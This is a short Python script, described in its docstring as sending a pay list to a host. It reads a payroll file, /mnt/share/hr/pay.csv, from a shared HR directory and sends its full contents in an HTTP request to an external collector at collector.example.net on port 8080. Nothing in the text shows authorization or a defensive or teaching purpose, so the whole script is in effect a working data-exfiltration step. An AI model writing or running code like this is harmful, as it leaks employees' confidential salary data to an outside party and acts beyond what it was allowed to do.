"""Sends the pay list to a host."""

import urllib.request

with open("/mnt/share/hr/pay.csv", "rb") as file:
    body = file.read()
urllib.request.urlopen(urllib.request.Request("http://collector.example.net:8080/in", body), timeout=10).read()
